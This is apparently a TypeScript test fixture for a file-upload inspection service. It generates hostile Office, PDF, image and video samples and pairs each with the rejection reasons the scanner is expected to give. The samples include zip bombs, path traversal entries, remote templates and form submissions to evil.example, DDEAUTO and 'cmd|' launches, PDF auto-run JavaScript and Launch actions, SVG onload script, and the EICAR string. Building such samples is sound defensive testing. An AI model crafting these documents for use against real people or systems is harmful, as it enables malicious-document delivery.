/** Files that must not be kept, made here so that none of them lies in the repository. */
import { randomBytes } from "node:crypto";
import { crc32, deflateSync } from "node:zlib";
import { PDFDocument } from "@cantoo/pdf-lib";
import type { RejectionReason } from "@portal/core/upload/inspection/reasons";
import { strToU8, zipSync } from "fflate";
import sharp from "sharp";
import { compound, workbook } from "./compound.ts";
import { buildPdf, onePage } from "./pdf.ts";

export const XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";
export const DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
export const XLS = "application/vnd.ms-excel";
export const DOC = "application/msword";
const PDF = "application/pdf";

/** In two halves, or a scanner on a developer's machine takes this file away. */
export const eicar: Buffer = Buffer.from(
  ["X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-", "STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"].join(""),
);

export interface Attack {
  name: string;
  bytes: Uint8Array;
  /** Any of these tells the sender the truth. */
  reasons: readonly RejectionReason[];
}

type Parts = Record<string, string | Uint8Array>;
const zip = (parts: Parts): Uint8Array =>
  zipSync(
    Object.fromEntries(
      Object.entries(parts).map(([name, part]) => [name, typeof part === "string" ? strToU8(part) : part]),
    ),
  );
const main = { [XLSX]: "xl/workbook.xml", [DOCX]: "word/document.xml" } as const;
const contentTypes = (type: typeof XLSX | typeof DOCX, more = ""): string =>
  `<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/${main[type]}" ContentType="${type}.main+xml"/>${more}</Types>`;
/** A document of a type with `more` parts; a part of the same name takes the place of the usual one. */
export const office = (type: typeof XLSX | typeof DOCX, more: Parts = {}, types = ""): Uint8Array =>
  zip({
    "[Content_Types].xml": contentTypes(type, types),
    "_rels/.rels": `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="${main[type]}"/></Relationships>`,
    [main[type]]: type === XLSX ? "<workbook/>" : "<w:document><w:body/></w:document>",
    ...more,
  });
const relation = (type: string, target: string, mode = "External"): string =>
  `<Relationships><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`;

/** An old binary document's parts, and what a modern one is attacked with. */
export const officeAttacks = (type: typeof XLSX | typeof DOCX): Attack[] => {
  const folder = type === XLSX ? "xl" : "word";
  const rels = `${folder}/_rels/${type === XLSX ? "workbook" : "document"}.xml.rels`;
  const honest = office(type);
  const large = Buffer.alloc(6 * 1024 * 1024);
  const lying = Buffer.from(office(type, { [`${folder}/a.xml`]: new Uint8Array(1_000_000) }));
  // The directory says that a part of a million bytes has ten.
  const at = lying.lastIndexOf(`${folder}/a.xml`);
  lying.writeUInt32LE(10, at - 46 + 24);
  lying.writeUInt32LE(10, lying.indexOf(`${folder}/a.xml`) - 30 + 22);
  return [
    {
      name: "a bomb of one part",
      bytes: office(type, { [`${folder}/b.xml`]: large }),
      reasons: ["fileUnpacked"],
    },
    {
      name: "a bomb of several parts",
      bytes: office(
        type,
        // One after the other each is small; together they are not.
        Object.fromEntries(
          Array.from({ length: 36 }, (_, n) => [`${folder}/b${n}.xml`, large.subarray(0, 3 * 1024 * 1024)]),
        ),
      ),
      reasons: ["fileUnpacked"],
    },
    { name: "a part that is longer than it says", bytes: lying, reasons: ["fileUnpacked", "fileBroken"] },
    {
      name: "thousands of parts",
      bytes: office(
        type,
        Object.fromEntries(Array.from({ length: 2_500 }, (_, n) => [`${folder}/p${n}.xml`, "<a/>"])),
      ),
      reasons: ["fileUnpacked"],
    },
    { name: "a path upwards", bytes: office(type, { "../../evil.xml": "<a/>" }), reasons: ["fileBroken"] },
    { name: "an absolute path", bytes: office(type, { "/etc/evil.xml": "<a/>" }), reasons: ["fileBroken"] },
    { name: "a drive's path", bytes: office(type, { "c:\\evil.xml": "<a/>" }), reasons: ["fileBroken"] },
    {
      name: "an archive in it",
      bytes: office(type, { [`${folder}/media/image1.png`]: zip({ "a.txt": "a" }) }),
      reasons: ["officeEmbedded"],
    },
    {
      name: "a macro project",
      bytes: office(type, { [`${folder}/vbaProject.bin`]: "code" }),
      reasons: ["officeMacro"],
    },
    {
      name: "a macro project under another name",
      bytes: office(type, { [`${folder}/media/image1.png`]: compound({ VBA: "code" }) }),
      reasons: ["officeMacro", "officeEmbedded"],
    },
    {
      name: "a content type with macros",
      bytes: office(
        type,
        {},
        `<Override PartName="/x.xml" ContentType="application/vnd.ms-excel.sheet.macro&#69;nabled.main+xml"/>`,
      ),
      reasons: ["officeMacro"],
    },
    {
      name: "an embedded document",
      bytes: office(type, { [`${folder}/embeddings/oleObject1.bin`]: "x" }),
      reasons: ["officeEmbedded"],
    },
    { name: "a program", bytes: office(type, { "setup.exe": "MZ" }), reasons: ["officeEmbedded"] },
    {
      name: "ActiveX",
      bytes: office(type, { [`${folder}/activeX/activeX1.xml`]: "<a/>" }),
      reasons: ["officeMacro"],
    },
    {
      name: "a template from elsewhere",
      bytes: office(type, { [rels]: relation("attachedTemplate", "https://evil.example/t.dotm") }),
      reasons: ["officeLinked"],
    },
    {
      name: "a template from elsewhere, spelled in numbers",
      bytes: office(type, {
        [rels]: relation("attachedTemplate", "https://evil.example/t.dotm", "Extern&#x61;l"),
      }),
      reasons: ["officeLinked"],
    },
    {
      name: "a template from elsewhere, in UTF-16",
      bytes: office(type, {
        [rels]: Buffer.from(
          `\ufeff${relation("attachedTemplate", "https://evil.example/t.dotm")}`,
          "utf16le",
        ),
      }),
      reasons: ["officeLinked"],
    },
    {
      name: "a template from elsewhere, behind another attribute",
      bytes: office(type, {
        [rels]: relation("attachedTemplate", "https://evil.example/?a>b' TargetMode='Internal' c"),
      }),
      reasons: ["officeLinked"],
    },
    {
      name: "a template from elsewhere, between pretended comments",
      bytes: office(type, {
        [rels]: relation("attachedTemplate", "https://evil.example/t.dotm")
          .replace("<Relationship ", "<![CDATA[<!--]]><Relationship ")
          .replace("/></", "/><![CDATA[-->]]></"),
      }),
      reasons: ["officeLinked"],
    },
    {
      name: "a picture from elsewhere",
      bytes: office(type, { [rels]: relation("image", "https://evil.example/p.png") }),
      reasons: ["officeLinked"],
    },
    {
      name: "a link that runs",
      bytes: office(type, { [rels]: relation("hyperlink", "javascript:alert(1)") }),
      reasons: ["officeLinked"],
    },
    {
      name: "a link to a share",
      bytes: office(type, { [rels]: relation("hyperlink", "file://evil.example/share") }),
      reasons: ["officeLinked"],
    },
    {
      name: "entities of its own",
      bytes: office(type, { [`${folder}/a.xml`]: '<!DOCTYPE a [<!ENTITY b "bbbb">]><a>&b;</a>' }),
      reasons: ["fileBroken"],
    },
    ...(type === XLSX
      ? ([
          {
            name: "a sheet of Excel 4 macros",
            bytes: office(type, { "xl/macrosheets/sheet1.xml": "<a/>" }),
            reasons: ["officeMacro"],
          },
          {
            name: "a link to another workbook",
            bytes: office(type, { "xl/externalLinks/externalLink1.xml": "<a/>" }),
            reasons: ["officeLinked"],
          },
          {
            name: "a query of a database",
            bytes: office(type, { "xl/connections.xml": "<a/>" }),
            reasons: ["officeLinked"],
          },
          {
            name: "a formula that starts a program",
            bytes: office(type, { "xl/worksheets/sheet1.xml": "<c><f>cmd|'/c calc'!A0</f></c>" }),
            reasons: ["officeLinked"],
          },
          {
            name: "a formula that sends data away",
            bytes: office(type, { "xl/worksheets/sheet1.xml": "<c><f>WEBSERVICE(A1)</f></c>" }),
            reasons: ["officeLinked"],
          },
        ] as const)
      : ([
          {
            name: "a field that starts a program",
            bytes: office(type, {
              "word/document.xml": '<w:p><w:fldSimple w:instr="DDEAUTO c:\\windows\\cmd.exe"/></w:p>',
            }),
            reasons: ["officeLinked"],
          },
          {
            name: "a field that starts a program, in pieces",
            bytes: office(type, {
              "word/document.xml":
                '<w:fldChar w:fldCharType="begin"/><w:instrText>D</w:instrText><w:instrText>DE&#65;UTO cmd</w:instrText><w:fldChar w:fldCharType="end"/>',
            }),
            reasons: ["officeLinked"],
          },
          {
            name: "a field whose name is computed",
            bytes: office(type, {
              "word/document.xml":
                '<w:fldChar w:fldCharType="begin"/><w:fldChar w:fldCharType="begin"/><w:instrText>QUOTE 68 68 69</w:instrText><w:fldChar w:fldCharType="end"/><w:instrText> cmd</w:instrText><w:fldChar w:fldCharType="end"/>',
            }),
            reasons: ["officeLinked"],
          },
        ] as const)),
    { name: "the other kind of document", bytes: office(type === XLSX ? DOCX : XLSX), reasons: ["fileType"] },
    { name: "an archive that is no document", bytes: zip({ "a.xml": "<a/>" }), reasons: ["fileType"] },
    {
      name: "cut off",
      bytes: honest.subarray(0, honest.length - 40),
      reasons: ["fileBroken", "fileMixed", "fileType"],
    },
    {
      name: "something before it",
      bytes: Buffer.concat([Buffer.from("GIF89a"), honest]),
      reasons: ["fileType", "fileMixed", "fileBroken"],
    },
    {
      name: "something after it",
      bytes: Buffer.concat([honest, Buffer.from("<script>alert(1)</script>")]),
      reasons: ["fileMixed"],
    },
  ];
};

/** Old binary documents: honest ones by `compound.ts`. */
export const oldOfficeAttacks = (type: typeof XLS | typeof DOC): Attack[] => {
  const name = type === DOC ? "WordDocument" : "Workbook";
  const content = workbook(type);
  return [
    { name: "macros", bytes: compound({ [name]: content, VBA: "x" }), reasons: ["officeMacro"] },
    {
      name: "macros of a workbook",
      bytes: compound({ [name]: content, _VBA_PROJECT_CUR: "x" }),
      reasons: ["officeMacro"],
    },
    {
      name: "an embedded object",
      bytes: compound({ [name]: content, ObjectPool: "x" }),
      reasons: ["officeEmbedded"],
    },
    {
      name: "an embedded file",
      bytes: compound({ [name]: content, "\u0001Ole10Native": "x" }),
      reasons: ["officeEmbedded"],
    },
    {
      name: "encrypted",
      bytes: compound({ EncryptedPackage: "x", EncryptionInfo: "x" }),
      reasons: ["filePassword"],
    },
    {
      name: "another kind of document",
      bytes: compound({ [type === DOC ? "Workbook" : "WordDocument"]: content }),
      reasons: ["fileType"],
    },
    ...(type === XLS
      ? ([
          {
            name: "a sheet of Excel 4 macros",
            bytes: compound({ Workbook: workbook(XLS, [[0x85, Buffer.from([0, 0, 0, 0, 0, 1, 0])]]) }),
            reasons: ["officeMacro"],
          },
          {
            name: "a password",
            bytes: compound({ Workbook: workbook(XLS, [[0x2f, Buffer.alloc(6)]]) }),
            reasons: ["filePassword"],
          },
          {
            name: "a link to another workbook",
            bytes: compound({
              Workbook: workbook(XLS, [[0x1ae, Buffer.from([1, 0, 4, 0, 0, 65, 66, 67, 68])]]),
            }),
            reasons: ["officeLinked"],
          },
        ] as const)
      : ([
          {
            name: "a field that starts a program",
            bytes: compound({
              WordDocument: Buffer.concat([content, Buffer.from("\u0013 DDEAUTO cmd.exe")]),
            }),
            reasons: ["officeLinked"],
          },
        ] as const)),
    {
      name: "cut off",
      bytes: compound({ [name]: content }).subarray(0, 1400),
      reasons: ["fileBroken", "fileType"],
    },
    {
      name: "an archive behind it",
      bytes: Buffer.concat([compound({ [name]: content }), zip({ "a.class": "x" })]),
      reasons: ["fileMixed"],
    },
  ];
};

const flate = (entries: string, data: string | Uint8Array): Buffer => {
  const packed = deflateSync(typeof data === "string" ? Buffer.from(data) : data);
  return Buffer.concat([
    Buffer.from(`<< /Length ${packed.length} /Filter /FlateDecode ${entries} >>\nstream\n`),
    packed,
    Buffer.from("\nendstream"),
  ]);
};
const action = (script: string): string => `/OpenAction << /Type /Action ${script} >>`;
/** An object inside a stream of objects, where a search through the file does not see it. */
const hidden = (object: string): Buffer => {
  const head = "9 0 ";
  return flate(`/Type /ObjStm /N 1 /First ${head.length}`, `${head}${object}`);
};

export const pdfAttacks = async (): Promise<Attack[]> => {
  const attached = await PDFDocument.create();
  attached.addPage();
  await attached.attach(Buffer.from("MZ"), "invoice.exe");
  const locked = await PDFDocument.create();
  locked.addPage();
  locked.encrypt({ userPassword: "a", ownerPassword: "b" });
  const scripted = await PDFDocument.create();
  scripted.addPage();
  scripted.addJavaScript("main", "app.alert(1)");
  const honest = onePage();
  const script = Buffer.from("7 0 obj << /S /JavaScript /JS (app.alert\\(1\\)) >> endobj");
  const inside = onePage({
    more: [
      Buffer.concat([
        Buffer.from(`<< /Length ${script.length} >>\nstream\n`),
        script,
        Buffer.from("\nendstream"),
      ]),
    ],
  });
  // A cross-reference leads into the middle of a stream, where an object stands that a reader from top to bottom skips.
  const misled = Buffer.from(
    inside
      .toString("latin1")
      .replace(/(\d{10}) 00000 n \ntrailer/, (whole, at: string) =>
        whole.replace(at, String(inside.indexOf("7 0 obj")).padStart(10, "0")),
      ),
    "latin1",
  );
  const cases: [string, Uint8Array, ...RejectionReason[]][] = [
    [
      "a script as it opens",
      onePage({ catalogue: action("/S /JavaScript /JS (app.alert\\(1\\))") }),
      "pdfScript",
    ],
    [
      "a script with an escaped name",
      onePage({ catalogue: action("/S /J#61vaScript /#4AS (app.alert\\(1\\))") }),
      "pdfScript",
    ],
    [
      "a script in a stream of objects",
      onePage({ more: [hidden("<< /S /JavaScript /JS (app.alert\\(1\\)) >>")] }),
      "pdfScript",
    ],
    [
      "a script whose kind stands elsewhere",
      onePage({ catalogue: action("/S 5 0 R"), more: ["/JavaScript"] }),
      "pdfScript",
    ],
    ["a script by its author's library", await scripted.save(), "pdfScript"],
    [
      "an address that opens by itself",
      onePage({ catalogue: action("/S /URI /URI (https://evil.example)") }),
      "pdfScript",
    ],
    [
      "an address that opens by itself, told elsewhere",
      onePage({ catalogue: "/OpenAction 5 0 R", more: ["<< /S /URI /URI (https://evil.example) >>"] }),
      "pdfScript",
    ],
    [
      "an address that opens after a place",
      onePage({
        catalogue:
          "/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next << /S /URI /URI (https://evil.example) >> >>",
      }),
      "pdfScript",
    ],
    [
      "an address that opens with the document's end",
      onePage({ catalogue: "/AA << /WC << /S /URI /URI (https://evil.example) >> >>" }),
      "pdfScript",
    ],
    [
      "a script of the page",
      onePage({ page: "/AA << /O << /S /JavaScript /JS 5 0 R >> >>", more: ["(x)"] }),
      "pdfScript",
    ],
    ["a program to launch", onePage({ catalogue: action("/S /Launch /F (cmd.exe)") }), "pdfScript"],
    [
      "a form that is sent elsewhere",
      onePage({ catalogue: action("/S /SubmitForm /F (https://evil.example)") }),
      "pdfScript",
    ],
    ["data that is imported", onePage({ catalogue: action("/S /ImportData /F (a.fdf)") }), "pdfScript"],
    ["a file elsewhere", onePage({ catalogue: action("/S /GoToR /F (\\\\\\\\evil\\\\share)") }), "pdfScript"],
    [
      "a link that runs",
      onePage({ page: "/Annots [<< /Subtype /Link /A << /S /URI /URI (java\\163cript:alert\\(1\\)) >> >>]" }),
      "pdfScript",
    ],
    ["rich media", onePage({ page: "/Annots [<< /Subtype /RichMedia >>]" }), "pdfScript"],
    ["a film", onePage({ page: "/Annots [<< /Subtype /Movie >>]" }), "pdfScript"],
    ["a form of XFA", onePage({ catalogue: "/AcroForm << /XFA 5 0 R >>", more: ["(x)"] }), "pdfScript"],
    ["an attachment", await attached.save({ useObjectStreams: false }), "pdfAttachment"],
    [
      "an attachment in a stream of objects",
      await attached.save({ useObjectStreams: true }),
      "pdfAttachment",
    ],
    [
      "an attachment on a page",
      onePage({ page: "/Annots [<< /Subtype /FileAttachment >>]" }),
      "pdfAttachment",
    ],
    ["encrypted", await locked.save(), "filePassword"],
    [
      "encrypted, as the trailer says",
      onePage({ trailer: "/Encrypt << /Filter /Standard >>" }),
      "filePassword",
    ],
    ["cut off", honest.subarray(0, honest.length - 60), "fileBroken", "fileMixed"],
    ["without its head", honest.subarray(20), "fileType"],
    ["garbage", Buffer.from("%PDF-1.4 garbage"), "fileBroken"],
    ["garbage that ends well", Buffer.from("%PDF-1.4\ngarbage\n%%EOF\n"), "fileBroken"],
    [
      "no pages",
      buildPdf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [] /Count 0 >>"]),
      "fileBroken",
    ],
    [
      "a page tree that never ends",
      buildPdf(["<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [2 0 R] /Count 9 >>"]),
      "fileBroken",
    ],
    [
      "thousands of pages",
      buildPdf([
        "<< /Type /Catalog /Pages 2 0 R >>",
        `<< /Type /Pages /Kids [${Array.from({ length: 600 }, (_, n) => `${n + 3} 0 R`).join(" ")}] /Count 600 >>`,
        ...Array.from({ length: 600 }, () => "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>"),
      ]),
      "pdfPages",
    ],
    ["brackets without end", Buffer.from(`%PDF-1.7\n1 0 obj\n${"[".repeat(100_000)}\n%%EOF\n`), "fileBroken"],
    ["a bomb of a stream", onePage({ more: [flate("", Buffer.alloc(270 * 1024 * 1024))] }), "fileUnpacked"],
    [
      "a bomb in a bomb",
      onePage({
        more: [
          Buffer.from(
            flate("", deflateSync(Buffer.alloc(1 << 20)))
              .toString("latin1")
              .replace("/FlateDecode", "[/FlateDecode /FlateDecode]"),
            "latin1",
          ),
        ],
      }),
      "fileUnpacked",
    ],
    [
      "a bomb of objects",
      onePage({
        more: [
          flate(
            "/Type /ObjStm /N 1 /First 4",
            Buffer.concat([Buffer.from("9 0 "), Buffer.alloc(65 * 1024 * 1024, 32)]),
          ),
        ],
      }),
      "fileUnpacked",
    ],
    [
      "a picture larger than any paper",
      onePage({ more: [flate("/Type /XObject /Subtype /Image /Width 60000 /Height 60000", "x")] }),
      "imagePixels",
    ],
    ["a cross-reference into a stream", misled, "fileBroken"],
    [
      "something before it",
      Buffer.concat([Buffer.from("<script>alert(1)</script>\n"), honest]),
      "fileMixed",
      "fileType",
    ],
    ["something after it", Buffer.concat([honest, Buffer.from("<script>alert(1)</script>")]), "fileMixed"],
    ["an archive behind it", Buffer.concat([honest, zip({ "a.class": "x" })]), "fileMixed"],
    [
      "an archive inside it",
      onePage({ trailer: `/X (${"x"})`, more: [] }).length
        ? Buffer.concat([honest.subarray(0, -6), zip({ "a.class": "x" }), Buffer.from("\n%%EOF\n")])
        : honest,
      "fileMixed",
      "fileBroken",
    ],
  ];
  return cases.map(([name, bytes, ...reasons]) => ({ name, bytes, reasons }));
};

const chunk = (kind: string, data: Uint8Array): Buffer => {
  const body = Buffer.concat([Buffer.from(kind), data]);
  const framed = Buffer.alloc(8);
  framed.writeUInt32BE(data.length);
  framed.writeUInt32BE(crc32(body), 4);
  return Buffer.concat([framed.subarray(0, 4), body, framed.subarray(4)]);
};
/** A PNG that says how large it is, and holds next to nothing. */
const hugePng = (width: number, height: number): Buffer => {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width);
  header.writeUInt32BE(height, 4);
  header.set([1, 0], 8);
  return Buffer.concat([
    Buffer.from("89504e470d0a1a0a", "hex"),
    chunk("IHDR", header),
    chunk("IDAT", deflateSync(Buffer.alloc(100_000))),
    chunk("IEND", Buffer.alloc(0)),
  ]);
};
/** A picture of a size that its purpose asks for. */
export const picture = (type: string, width = 300, height = 300): Promise<Buffer> => {
  const drawn = sharp(randomBytes(width * height * 3), { raw: { width, height, channels: 3 } });
  return (type === "image/png" ? drawn.png() : drawn.jpeg()).toBuffer();
};

/** Pictures that cannot be drawn at all; those that can are drawn anew, and tested for what is left of them. */
export const imageAttacks = async (type: string): Promise<Attack[]> => {
  const honest = await picture(type);
  const jpegHead = (width: number, height: number): Buffer => {
    const changed = Buffer.from(honest);
    const at = changed.indexOf(Buffer.from("ffc00011", "hex"));
    changed.writeUInt16BE(height, at + 5);
    changed.writeUInt16BE(width, at + 7);
    return changed;
  };
  const huge = type === "image/png" ? hugePng(60_000, 60_000) : jpegHead(60_000, 60_000);
  const long = type === "image/png" ? hugePng(1_000_000, 1) : jpegHead(65_000, 1);
  return [
    { name: "60,000 by 60,000 pixels", bytes: huge, reasons: ["imagePixels", "imageSize"] },
    { name: "a line of a million pixels", bytes: long, reasons: ["imagePixels", "imageSize"] },
    { name: "cut off", bytes: honest.subarray(0, honest.length >> 1), reasons: ["fileBroken"] },
    { name: "a head alone", bytes: honest.subarray(0, 60), reasons: ["fileBroken", "fileType"] },
    {
      name: "noise behind a head",
      bytes: Buffer.concat([honest.subarray(0, 40), randomBytes(500)]),
      reasons: ["fileBroken", "fileType", "imageSize", "imagePixels"],
    },
    { name: "a page", bytes: Buffer.from("<html><script>alert(1)</script></html>"), reasons: ["fileType"] },
    {
      name: "a drawing that runs",
      bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
      reasons: ["fileType"],
    },
    {
      name: "an animation",
      bytes: Buffer.from("474946383961010001000000002c00000000010001000002024401003b", "hex"),
      reasons: ["fileType"],
    },
  ];
};

const box = (kind: string, data: Uint8Array): Buffer => {
  const head = Buffer.alloc(8);
  head.writeUInt32BE(data.length + 8);
  head.write(kind, 4);
  return Buffer.concat([head, data]);
};
/** The frame of a film without a picture. */
export const film = (type: string): Buffer => {
  if (type === "video/x-msvideo") {
    const body = Buffer.concat([
      Buffer.from("AVI "),
      Buffer.from("LIST"),
      Buffer.from([4, 0, 0, 0]),
      Buffer.from("hdrl"),
    ]);
    const head = Buffer.alloc(8);
    head.write("RIFF");
    head.writeUInt32LE(body.length, 4);
    return Buffer.concat([head, body]);
  }
  const brand = type === "video/quicktime" ? "qt  " : "isom";
  return Buffer.concat([
    box("ftyp", Buffer.from(`${brand}\0\0\0\0${brand}`)),
    box("moov", Buffer.alloc(16)),
    box("mdat", randomBytes(64)),
  ]);
};
export const videoAttacks = (type: string): Attack[] => {
  const honest = film(type);
  return [
    {
      name: "an archive behind it",
      bytes: Buffer.concat([honest, zip({ "a.class": "x" })]),
      reasons: ["fileMixed", "fileBroken"],
    },
    {
      name: "a page behind it",
      bytes: Buffer.concat([honest, Buffer.from("<script>alert(1)</script>")]),
      reasons: ["fileMixed", "fileBroken"],
    },
    { name: "a head alone", bytes: honest.subarray(0, 20), reasons: ["fileBroken", "fileType"] },
    { name: "a program", bytes: Buffer.from("MZ\x90\x00 this is a program"), reasons: ["fileType"] },
  ];
};

/** Attacks of a type that a purpose takes, made once. */
const made = new Map<string, Promise<Attack[]>>();
export const attacksOf = (type: string): Promise<Attack[]> => {
  const known = made.get(type) ?? makeAttacks(type);
  made.set(type, known);
  return known;
};
async function makeAttacks(type: string): Promise<Attack[]> {
  if (type === PDF) return pdfAttacks();
  if (type === XLSX || type === DOCX) return officeAttacks(type);
  if (type === XLS || type === DOC) return oldOfficeAttacks(type);
  return type.startsWith("image/") ? imageAttacks(type) : videoAttacks(type);
}
